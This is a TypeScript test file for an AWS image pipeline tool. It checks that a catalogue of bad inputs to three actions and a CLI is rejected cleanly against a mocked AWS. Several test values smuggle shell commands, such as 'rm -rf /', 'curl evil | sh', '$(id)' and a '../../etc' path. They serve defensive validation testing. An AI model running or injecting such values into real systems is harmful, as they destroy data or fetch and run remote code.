// @needs-tools moto_server
/**
 * The bad-input catalogue: every entry must fail the step with exactly one
 * error line that names the input, exit non-zero, and leave AWS (moto)
 * exactly as it was.
 */
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { CreateStackCommand, CloudFormationClient } from '@aws-sdk/client-cloudformation';
import { PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { runBundledAction, snapshotAws, startMoto, type AwsSnapshot, type Moto } from '@img-mgr/testbed';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from './helpers.js';

const fixtures = join(fileURLToPath(new URL('.', import.meta.url)), 'fixtures');
const GOOD_AMI = 'ami-0123456789abcdef0';

interface BadInput {
  action: 'publish-ami' | 'deploy-stack' | 'bake-ami';
  why: string;
  inputs: Record<string, string>;
  /** The input the error line must name. */
  names: string;
}

/** A bad command line of the pipeline CLI (img-mgr-pipeline), run against the test's moto with --endpoint. */
interface BadCommandLine {
  why: string;
  args: string[];
  /** The flag the error line must name. */
  names: string;
}

const publish = (why: string, names: string, inputs: Record<string, string>): BadInput => ({
  action: 'publish-ami',
  why,
  names,
  inputs,
});
const deploy = (why: string, names: string, inputs: Record<string, string>): BadInput => ({
  action: 'deploy-stack',
  why,
  names,
  inputs: { 'stack-name': 'reliability', template: join(fixtures, 'one-parameter.yaml'), ...inputs },
});
const bake = (why: string, names: string, inputs: Record<string, string>): BadInput => ({
  action: 'bake-ami',
  why,
  names,
  inputs,
});

export const CATALOGUE: BadInput[] = [
  publish('no AMI at all', 'ami-id', {}),
  publish('an empty AMI id', 'ami-id', { 'ami-id': ' ', amis: '' }),
  publish('a garbage AMI id', 'ami-id', { 'ami-id': 'not-an-ami' }),
  publish('an AMI id that is too short', 'ami-id', { 'ami-id': 'ami-123' }),
  publish('a snapshot id instead of an AMI id', 'ami-id', { 'ami-id': 'snap-0123456789abcdef0' }),
  publish('an upper-case AMI id', 'ami-id', { 'ami-id': 'AMI-0123456789ABCDEF0' }),
  publish('an AMI id with a shell payload', 'ami-id', { 'ami-id': 'ami-01234567;rm -rf /' }),
  publish('amis that is not JSON', 'amis', { amis: '{us-east-1: ami-0123' }),
  publish('amis with a bad id', 'amis', { amis: '{"us-east-1":"ami-zzz"}' }),
  publish('amis with an unknown region', 'amis', { amis: `{"moon-base-1":"${GOOD_AMI}"}` }),
  publish('a parameter name with spaces', 'parameter-name', { 'ami-id': GOOD_AMI, 'parameter-name': '/golden ami' }),
  publish('a parameter name with shell characters', 'parameter-name', {
    'ami-id': GOOD_AMI,
    'parameter-name': '/x/$(id)',
  }),
  publish('a parameter name under the reserved aws prefix', 'parameter-name', {
    'ami-id': GOOD_AMI,
    'parameter-name': '/aws/golden',
  }),
  publish('an unknown region', 'region', { 'ami-id': GOOD_AMI, region: 'mars-east-1' }),
  publish('a label starting with a digit', 'labels', { 'ami-id': GOOD_AMI, labels: '1abc' }),
  publish('a label starting with aws', 'labels', { 'ami-id': GOOD_AMI, labels: 'awsome' }),
  publish('a tag without a value separator', 'tags', { 'ami-id': GOOD_AMI, tags: 'team' }),
  publish('a negative keep-amis', 'keep-amis', { 'ami-id': GOOD_AMI, 'keep-amis': '-1' }),
  publish('a negative wait-timeout', 'wait-timeout', { 'ami-id': GOOD_AMI, 'wait-timeout': '-5' }),
  publish('an unknown data type', 'data-type', { 'ami-id': GOOD_AMI, 'data-type': 'image' }),
  deploy('no stack name', 'stack-name', { 'stack-name': '' }),
  deploy('a stack name starting with a digit', 'stack-name', { 'stack-name': '1stack' }),
  deploy('a stack name with an underscore', 'stack-name', { 'stack-name': 'img_mgr' }),
  deploy('a missing template file', 'template', { template: join(fixtures, 'missing.yaml') }),
  deploy('a template that is not YAML', 'template', { template: join(fixtures, 'not-yaml.yaml') }),
  deploy('an override without a value', 'parameter-overrides', { 'parameter-overrides': 'Greeting' }),
  deploy('an override of an unknown parameter', 'parameter-overrides', { 'parameter-overrides': 'Bogus=1' }),
  deploy('a malformed tag', 'tags', { tags: 'owner' }),
  deploy('an unknown mode', 'mode', { mode: 'yolo' }),
  deploy('a negative wait-timeout', 'wait-timeout', { 'wait-timeout': '-1' }),
  deploy('a non-numeric CloudFormation timeout', 'timeout-in-minutes', { 'timeout-in-minutes': 'soon' }),
  deploy('an unknown capability', 'capabilities', { capabilities: 'CAPABILITY_EVERYTHING' }),
  deploy('a truncated region', 'region', { region: 'us-east' }),
  deploy('a termination-protection that is not a boolean', 'termination-protection', {
    'termination-protection': 'maybe',
  }),
  bake('a template that does not exist', 'template', { template: 'no-such-template.pkr.hcl' }),
  bake('a variable without a value', 'variables', {
    template: join(fixtures, 'one-parameter.yaml'),
    variables: 'flask_repo',
  }),
  // bake-ami hands variables to Packer as arguments (no shell) and the template validates flask_repo
  // (packer/variables.pkr.hcl); the CLI's --flask-repo entries below check the metacharacters.
  bake('a variable that bake-ami sets itself', 'variables', {
    template: join(fixtures, 'one-parameter.yaml'),
    variables: 'run_id=mine',
  }),
  bake('a packer-version with a shell payload', 'packer-version', { 'packer-version': '1.11.2; curl evil | sh' }),
  bake('a negative build timeout', 'timeout', { timeout: '-5m' }),
  bake('a force that is not a boolean', 'force', { force: 'perhaps' }),
  bake('an unknown region', 'region', { region: 'xx-1' }),
  bake('a var file that does not exist', 'var-files', {
    template: join(fixtures, 'one-parameter.yaml'),
    'var-files': 'no-such.pkrvars.hcl',
  }),
];

export const CLI_CATALOGUE: BadCommandLine[] = [
  { why: 'an unknown region', names: '--region', args: ['run', '--region', 'mars-east-1'] },
  { why: 'a truncated region', names: '--region', args: ['bake', '--region', 'us-east'] },
  {
    why: 'a flask-repo with a command separator and a pipe',
    names: '--flask-repo',
    args: ['run', '--flask-repo', 'https://github.com/me/app.git;curl evil|sh'],
  },
  {
    why: 'a flask-repo with a command substitution',
    names: '--flask-repo',
    args: ['bake', '--flask-repo', 'https://github.com/$(id)/app.git'],
  },
  {
    why: 'a flask-repo with backticks',
    names: '--flask-repo',
    args: ['run', '--flask-repo', 'https://github.com/`id`/app.git'],
  },
  {
    why: 'a flask-repo that is not https',
    names: '--flask-repo',
    args: ['run', '--flask-repo', 'git@github.com:me/app.git'],
  },
  { why: 'a negative timeout', names: '--timeout', args: ['run', '--timeout', '-5m'] },
  { why: 'a zero timeout', names: '--timeout', args: ['deploy', '--timeout', '0'] },
  { why: 'a flask-ref that walks up', names: '--flask-ref', args: ['run', '--flask-ref', '../../etc'] },
  {
    why: 'a parameter name under /aws',
    names: '--parameter-name',
    args: ['publish', '--parameter-name', '/aws/golden', '--ami-id', GOOD_AMI],
  },
  {
    why: 'an AMI id of another resource type',
    names: '--ami-id',
    args: ['publish', '--ami-id', 'snap-0123456789abcdef0'],
  },
  { why: 'a stack name with an underscore', names: '--app-stack', args: ['deploy', '--app-stack', 'img_mgr'] },
];

describe('bad-input catalogue', () => {
  let moto: Moto;
  let before: AwsSnapshot;

  beforeAll(async () => {
    moto = await startMoto();
    // Some state, so that "unchanged" means something.
    await new SSMClient(moto.clientConfig).send(
      new PutParameterCommand({ Name: '/common/img-mgr/golden-ami', Value: GOOD_AMI, Type: 'String' }),
    );
    await new CloudFormationClient(moto.clientConfig).send(
      new CreateStackCommand({
        StackName: 'reliability',
        TemplateBody:
          '{"Resources":{"P":{"Type":"AWS::SSM::Parameter",' +
          '"Properties":{"Name":"/reliability/existing","Type":"String","Value":"x"}}}}',
      }),
    );
    before = await snapshotAws(moto.clientConfig);
  });
  afterAll(async () => {
    await moto.stop();
  });

  it('has at least 30 entries across the three actions and the CLI', () => {
    expect(CATALOGUE.length + CLI_CATALOGUE.length).toBeGreaterThanOrEqual(30);
    expect(new Set(CATALOGUE.map((entry) => entry.action)).size).toBe(3);
    expect(new Set(CLI_CATALOGUE.map((entry) => entry.names))).toContain('--flask-repo');
  });

  it.each(CATALOGUE.map((entry) => [`${entry.action}: ${entry.why}`, entry] as const))('%s', async (_title, entry) => {
    const run = await runBundledAction(entry.action, { inputs: entry.inputs, env: moto.env, timeoutMs: 30_000 });
    expect(run.exitCode, run.log).not.toBe(0);
    expect(run.errors, run.log).toHaveLength(1);
    expect(run.errors[0]).toContain(`'${entry.names}'`);
    expect(run.log, 'no stack trace').not.toMatch(/^\s+at .+\(.+:\d+:\d+\)$/m);
    expect(await snapshotAws(moto.clientConfig)).toEqual(before);
  });

  it.each(CLI_CATALOGUE.map((entry) => [`img-mgr-pipeline: ${entry.why}`, entry] as const))(
    '%s',
    async (_title, entry) => {
      const run = await runCli([...entry.args, '--endpoint', moto.endpoint], { timeoutMs: 30_000 });
      expect(run.exitCode, run.stderr).not.toBe(0);
      expect(run.stdout).toBe('');
      const lines = run.stderr.split('\n').filter((line) => line.trim() !== '');
      expect(lines, run.stderr).toHaveLength(1);
      expect(lines[0]).toMatch(new RegExp(`^img-mgr-pipeline: error: ${entry.names} `));
      expect(run.stderr, 'no stack trace').not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
      expect(await snapshotAws(moto.clientConfig)).toEqual(before);
    },
  );
});
